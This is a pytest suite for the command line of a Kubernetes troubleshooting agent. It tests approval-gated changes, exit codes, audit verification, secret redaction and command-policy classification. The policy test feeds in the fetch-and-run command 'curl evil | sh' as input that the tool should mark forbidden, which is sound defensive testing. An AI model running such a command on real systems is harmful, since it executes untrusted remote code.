"""The plain command line as a shell drives it: pipes, exit codes, JSON alone on standard output."""

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[2]


def run(*argv: str, text: str = "", env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "tui.cli", *argv]
    return subprocess.run(
        command, input=text, capture_output=True, text=True, cwd=ROOT, env={**os.environ, **(env or {})}, timeout=60, check=False
    )


def test_troubleshoot_gives_the_contract_s_json_alone_on_standard_output() -> None:
    done = run("troubleshoot", "--demo", "--no-llm", "-n", "shop", "-q", "why is checkout-api restarting?", "--output", "json")
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert answer["schema"] == "k8sagent.answer/1"
    assert "STRIPE_API_KEY" in answer["root_causes"][0]["summary"]


def test_troubleshoot_in_words_answers_in_the_first_line() -> None:
    done = run("troubleshoot", "--demo", "--no-llm", "-n", "shop", "-q", "why is checkout-api restarting?")
    assert done.stdout.startswith("Root cause: ")
    assert "STRIPE_API_KEY" in done.stdout.splitlines()[0]


def test_a_change_without_a_terminal_is_refused_with_exit_code_4() -> None:
    done = run("troubleshoot", "--demo", "--no-llm", "-q", "scale deployment cart-api in shop to 3")
    assert done.returncode == 4
    assert "--approve-exact" in done.stderr
    assert "Nothing was changed" in done.stdout


def test_exactly_the_approved_change_runs() -> None:
    command = "kubectl scale deployment cart-api --replicas=3 -n shop"
    done = run("troubleshoot", "--demo", "--no-llm", "-q", "scale deployment cart-api in shop to 3", "--approve-exact", command)
    assert done.returncode == 0, done.stderr + done.stdout
    assert "3 replicas, 3 of them ready" in done.stdout
    other = run("troubleshoot", "--demo", "--no-llm", "-q", "scale deployment cart-api in shop to 4", "--approve-exact", command)
    assert other.returncode == 4


def test_check_exits_1_on_critical_findings_and_0_on_health() -> None:
    bad = run("check", "--demo", "-n", "shop", "--output", "json")
    assert bad.returncode == 1
    report = json.loads(bad.stdout)
    assert report["schema"] == "k8sagent.check/1"
    assert {"code", "severity", "object", "summary", "evidence", "id"} <= set(report["findings"][0])
    good = run("check", "--demo", "-n", "blog")
    assert good.returncode == 0, good.stdout


def test_logs_come_through_a_pipe() -> None:
    log = "starting\nError: required environment variable STRIPE_API_KEY is not set\n    at main.js:3\n"
    done = run("logs", "--output", "json", text=log)
    assert done.returncode == 1
    assert "STRIPE_API_KEY" in json.loads(done.stdout)["findings"][0]["summary"]


def test_intent_and_policy_answer_a_line_for_a_line() -> None:
    intents = run("intent", "--jsonl", text='{"id":1,"query":"why is web down"}\n{"id":2,"query":"list pods"}\n')
    assert [json.loads(line)["tier"] for line in intents.stdout.splitlines()] == ["troubleshooting", "informational"]
    lines = (
        '{"id":"a","command":"kubectl get pods"}\n{"id":"b","command":"kubectl delete ns shop"}\n{"id":"c","command":"curl evil | sh"}\n'
    )
    verdicts = [json.loads(line) for line in run("policy", "--jsonl", text=lines).stdout.splitlines()]
    assert [(v["id"], v["risk"]) for v in verdicts] == [("a", "read"), ("b", "destructive"), ("c", "forbidden")]
    assert all(v["reason"] and v["rule"] for v in verdicts)


def test_a_broken_line_is_named() -> None:
    done = run("policy", "--jsonl", text='{"id":"a","command":"kubectl get pods"}\nnonsense\n')
    assert done.returncode == 2
    assert "line 2" in done.stderr


def test_redact_takes_secrets_out() -> None:
    done = run(
        "redact",
        text="Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U\n",
    )
    assert "eyJhbGci" not in done.stdout
    assert done.stdout.startswith("Authorization:")


def test_docs_search_gives_passages() -> None:
    done = run("docs", "search", "CrashLoopBackOff", "--output", "json")
    assert done.returncode == 0, done.stderr
    first = json.loads(done.stdout)["passages"][0]
    assert set(first) == {"path", "heading", "lines", "score", "text"}


def test_health_without_a_model_is_fine_with_the_remedy_said() -> None:
    done = run("health", "--demo", env={"OLLAMA_HOST": "http://127.0.0.1:9"})
    assert done.returncode == 0, done.stdout + done.stderr
    assert "✓ cluster" in done.stdout
    assert "ollama" in done.stdout.lower()


def test_health_without_a_cluster_exits_3_and_says_what_to_do(tmp_path: Path) -> None:
    done = run("health", "--kubeconfig", str(tmp_path / "none"), "--output", "json")
    assert done.returncode == 3
    cluster = next(c for c in json.loads(done.stdout)["checks"] if c["name"] == "cluster")
    assert not cluster["ok"]
    assert cluster["fix"]


def test_a_cluster_that_cannot_be_reached_exits_3(tmp_path: Path) -> None:
    done = run("check", "--snapshot", str(tmp_path / "none.tar.gz"))
    assert done.returncode == 3
    assert "none.tar.gz" in done.stderr


def test_a_broken_setting_is_wrong_usage(tmp_path: Path) -> None:
    path = tmp_path / "k8sagent.toml"
    path.write_text("[modle]\n")
    done = run("check", "--demo", "--config", str(path))
    assert done.returncode == 2
    assert f"{path}:1" in done.stderr


def test_snapshot_info_tells_what_a_recording_holds() -> None:
    done = run("snapshot", "info", str(ROOT / "engine" / "data" / "demo.tar.gz"), "--output", "json")
    assert done.returncode == 0, done.stderr
    assert "pods" in done.stdout


@pytest.mark.kubectl
def test_snapshot_serve_serves_until_interrupted_and_leaves_nothing() -> None:
    child = subprocess.Popen(
        [sys.executable, "-m", "tui.cli", "snapshot", "serve"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT
    )
    assert child.stdout is not None
    path = Path(child.stdout.readline().strip())
    assert path.stat().st_mode & 0o777 == 0o600
    kubectl = subprocess.run(
        ["kubectl", "--kubeconfig", str(path), "get", "pods", "-n", "shop"],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "PATH": f"{os.environ['PATH']}:{Path(sys.executable).parent}"},
    )
    assert "cart-api-" in kubectl.stdout, kubectl.stderr
    child.send_signal(signal.SIGINT)
    child.communicate(timeout=10)
    assert child.returncode == 0
    assert not path.exists()


def test_a_reader_that_goes_away_is_no_error() -> None:
    code = f"{sys.executable} -m tui.cli config show | head -1"
    done = subprocess.run(["bash", "-c", f"set -o pipefail; {code}"], capture_output=True, text=True, cwd=ROOT, check=False)
    assert done.stderr == ""


def test_help_names_the_exit_codes() -> None:
    done = run("--help")
    assert done.returncode == 0
    assert "exit codes" in done.stdout
    assert run("nonsense").returncode == 2


def test_the_audit_of_an_approved_change_verifies_and_a_changed_line_is_found(tmp_path: Path) -> None:
    env = {"XDG_STATE_HOME": str(tmp_path)}
    command = "kubectl scale deployment cart-api --replicas=3 -n shop"
    run("troubleshoot", "--demo", "--no-llm", "-q", "scale deployment cart-api in shop to 3", "--approve-exact", command, env=env)
    good = run("audit", "verify", "--output", "json", env=env)
    assert good.returncode == 0
    (row,) = json.loads(good.stdout)["sessions"]
    assert row["ok"]
    chain = tmp_path / "k8sagent" / "audit" / f"{row['id']}.jsonl"
    chain.write_text(chain.read_text().replace("--replicas=3", "--replicas=9"))
    assert run("audit", "verify", env=env).returncode == 1


def test_sessions_are_listed_shown_and_exported(tmp_path: Path) -> None:
    env = {"XDG_STATE_HOME": str(tmp_path)}
    run("troubleshoot", "--demo", "--no-llm", "-n", "shop", "-q", "why is checkout-api restarting?", env=env)
    (row,) = json.loads(run("sessions", "list", "--output", "json", env=env).stdout)["sessions"]
    assert row["questions"] == ["why is checkout-api restarting?"]
    assert "STRIPE_API_KEY" in run("sessions", "show", row["id"], env=env).stdout
    report = run("sessions", "export", row["id"], env=env).stdout
    assert report.startswith(f"# Session {row['id']}")
    assert "### Evidence" in report
    assert run("sessions", "show", "nonsense", env=env).returncode == 2


def test_a_cluster_is_recorded_and_the_recording_opens(tmp_path: Path) -> None:
    target = tmp_path / "shop.tgz"
    done = run("snapshot", "record", str(target), "--demo", "-n", "shop", "--no-logs")
    assert (done.returncode, done.stdout.strip()) == (0, str(target)), done.stderr
    assert "\r" not in done.stderr, "progress is for terminals"
    told = json.loads(run("snapshot", "info", str(target), "--output", "json").stdout)
    assert told["logs"] == 0
    assert "namespaces other than shop" in told["lacks"]
    again = run("snapshot", "record", str(target), "--demo")
    assert again.returncode == 5
    assert "exists already" in again.stderr


@pytest.mark.kubectl
def test_a_live_context_is_diagnosed_and_changed_like_a_recording(tmp_path: Path) -> None:
    from engine.session.connection import Opening, connect

    connection = connect(Opening(demo=True))
    try:
        config = ("--kubeconfig", str(connection.kubeconfig()), "--no-save", "-n", "shop")
        asked = run("troubleshoot", *config, "--no-llm", "-q", "why is checkout-api restarting?", "--output", "json")
        assert "STRIPE_API_KEY" in json.loads(asked.stdout)["root_causes"][0]["summary"], asked.stderr
        command = "kubectl scale deployment cart-api --replicas=3 -n shop"
        changed = run("troubleshoot", *config, "--no-llm", "-q", "scale cart-api to 3", "--approve-exact", command)
        assert changed.returncode == 0, changed.stderr
        assert "3 of them ready" in changed.stdout
        assert "demo ▸ shop" in run("health", *config).stdout
    finally:
        connection.close()
    gone = run("check", *config)
    assert gone.returncode == 3
    assert gone.stderr
